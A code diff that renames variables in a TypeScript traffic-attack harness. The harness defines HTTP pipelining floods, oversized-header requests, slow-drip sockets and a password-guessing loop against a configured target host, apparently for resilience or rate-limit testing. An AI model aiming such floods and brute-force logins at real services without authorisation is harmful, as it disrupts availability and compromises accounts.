@@ -55,8 +55,8 @@ const drip = (socket: Socket, start: string, chunk: string, everyMs: number): vo
   socket.once('close', () => clearInterval(timer));
 };
 
-const head = (method: string, path: string, more: readonly string[] = []): string =>
-  [`${method} ${path} HTTP/1.1`, `host: ${aim.host}`, ...more, '', ''].join('\r\n');
+const head = (method: string, path: string, extraHeaders: readonly string[] = []): string =>
+  [`${method} ${path} HTTP/1.1`, `host: ${aim.host}`, ...extraHeaders, '', ''].join('\r\n');
 
 const agent = new Agent({ keepAlive: true, maxSockets: 20, localAddress: aim.from });
 
@@ -95,9 +95,9 @@ const ATTACKS: Record<Attack, () => void> = {
     const sockets = Array.from({ length: 20 }, () => openSocket().resume());
     const several = head('GET', '/api/v2.6/owner/sign-in-ways').repeat(20);
     atRate(300, () => {
-      const at = Math.floor(Math.random() * sockets.length);
-      if (sockets[at]?.destroyed !== false) sockets[at] = openSocket().resume();
-      sockets[at].write(several);
+      const index = Math.floor(Math.random() * sockets.length);
+      if (sockets[index]?.destroyed !== false) sockets[index] = openSocket().resume();
+      sockets[index].write(several);
     });
   },
   'huge headers': () => atRate(300, () => call('GET', '/healthz', { 'x-filling': 'x'.repeat(30_000) })),
@@ -128,10 +128,10 @@ const ATTACKS: Record<Attack, () => void> = {
     );
   },
   passwords: () => {
-    let at = 0;
+    let index = 0;
     atRate(100, () => {
-      at += 1;
-      call('GET', '/users/access_token', { username: `name${at}`, password: `guess${at}` });
+      index += 1;
+      call('GET', '/users/access_token', { username: `name${index}`, password: `guess${index}` });
     });
   },
 };
